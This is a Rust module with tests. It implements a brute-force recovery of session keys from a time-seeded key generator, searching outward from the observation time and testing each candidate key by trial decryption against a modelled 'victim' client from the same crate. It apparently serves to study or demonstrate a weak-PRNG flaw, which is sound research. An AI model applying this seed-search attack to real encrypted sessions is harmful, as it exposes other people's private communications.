use std::fmt;

use serde_json::{json, Value};

use super::AttackError;
use crate::victim_prng::{keygen_v65, SessionKey};
use crate::wup::{decrypt_payload, EncryptedSession};

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PrngAttackResult {
    pub key: SessionKey,
    pub seed_millis: u64,
    /// Candidates tried, including the hit.
    pub guesses: u64,
    /// Seed time minus observation time.
    pub offset_ms: i64,
}

impl PrngAttackResult {
    pub fn to_json(&self) -> Value {
        json!({
            "recovered": true,
            "key": self.key.to_hex(),
            "seed_millis": self.seed_millis,
            "offset_ms": self.offset_ms,
            "guesses": self.guesses,
        })
    }
}

impl fmt::Display for PrngAttackResult {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "recovered key {} seeded at t={} ({:+} ms from observation) after {} guesses",
            self.key.to_hex(),
            self.seed_millis,
            self.offset_ms,
            self.guesses
        )
    }
}

/// Candidate seed times, nearest first: `t, t+1, t-1, t+2, t-2, ...` out to
/// `radius`. Times before the epoch are skipped.
pub fn search_order(observed_at: u64, radius: u64) -> impl Iterator<Item = u64> {
    std::iter::once(Some(observed_at))
        .chain((1..=radius).flat_map(move |d| [observed_at.checked_add(d), observed_at.checked_sub(d)]))
        .flatten()
}

/// True when `key` decrypts `payload` to a well-formed message.
pub fn payload_key_check(payload: &[u8]) -> impl Fn(&SessionKey) -> bool + '_ {
    move |key| decrypt_payload(key, payload).is_ok()
}

/// Recover a 6.5 client's session key from one observed session by
/// searching seed times around `observed_at`.
pub fn prng_attack(observed: &EncryptedSession, observed_at: u64, radius: u64) -> Result<PrngAttackResult, AttackError> {
    prng_attack_with(observed_at, radius, payload_key_check(&observed.payload))
}

/// Same search with a caller-supplied key test.
pub fn prng_attack_with(observed_at: u64, radius: u64, check: impl Fn(&SessionKey) -> bool) -> Result<PrngAttackResult, AttackError> {
    let mut guesses = 0u64;
    for t in search_order(observed_at, radius) {
        guesses += 1;
        let key = keygen_v65(t);
        if check(&key) {
            return Ok(PrngAttackResult {
                key,
                seed_millis: t,
                guesses,
                offset_ms: t as i64 - observed_at as i64,
            });
        }
    }
    Err(AttackError::SeedNotInWindow { guesses })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rsa::keygen;
    use crate::wup::{seal_session, WupMessage};
    use num_bigint::BigUint;
    use proptest::prelude::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha20Rng;

    const T0: u64 = 1_600_000_000_000;

    fn victim_session(seed_time: u64) -> EncryptedSession {
        let kp = keygen(1024, &BigUint::from(65537u32), &mut ChaCha20Rng::seed_from_u64(5)).unwrap();
        seal_session(&kp.public, &keygen_v65(seed_time), &WupMessage::sample_request("victim")).unwrap()
    }

    /// Guesses needed for a given offset, counted directly from the order.
    fn position(offset: i64) -> u64 {
        if offset == 0 {
            1
        } else if offset > 0 {
            2 * offset as u64
        } else {
            2 * offset.unsigned_abs() + 1
        }
    }

    #[test]
    fn order_starts_at_observation_and_alternates() {
        let got: Vec<u64> = search_order(100, 3).collect();
        assert_eq!(got, [100, 101, 99, 102, 98, 103, 97]);
        let near_zero: Vec<u64> = search_order(1, 3).collect();
        assert_eq!(near_zero, [1, 2, 0, 3, 4]);
    }

    #[test]
    fn zero_offset_takes_one_guess() {
        let sess = victim_session(T0);
        let hit = prng_attack(&sess, T0, 10).unwrap();
        assert_eq!(hit.guesses, 1);
        assert_eq!(hit.key, keygen_v65(T0));
    }

    #[test]
    fn negative_offset_five_seconds() {
        let sess = victim_session(T0 - 5000);
        let hit = prng_attack(&sess, T0, 35_000).unwrap();
        assert_eq!(hit.offset_ms, -5000);
        assert_eq!(hit.guesses, 10_001);
        assert!(hit.key.same_key(&keygen_v65(T0 - 5000)));
    }

    #[test]
    fn outside_window_reports_guesses() {
        let sess = victim_session(T0 + 50);
        match prng_attack(&sess, T0, 20) {
            Err(AttackError::SeedNotInWindow { guesses }) => assert_eq!(guesses, 41),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn json_record_has_no_timing() {
        let hit = prng_attack(&victim_session(T0 + 3), T0, 10).unwrap();
        let v = hit.to_json();
        assert_eq!(v["guesses"], 6);
        assert_eq!(v["offset_ms"], 3);
        assert!(v.get("wall_time_ms").is_none());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]
        #[test]
        fn guess_count_matches_enumeration_position(offset in -3000i64..=3000) {
            let seed_time = (T0 as i64 + offset) as u64;
            let target = keygen_v65(seed_time);
            let hit = prng_attack_with(T0, 3000, |k| k.same_key(&target)).unwrap();
            prop_assert_eq!(hit.guesses, position(offset));
            prop_assert!(hit.guesses <= 2 * offset.unsigned_abs() + 1);
        }
    }
}
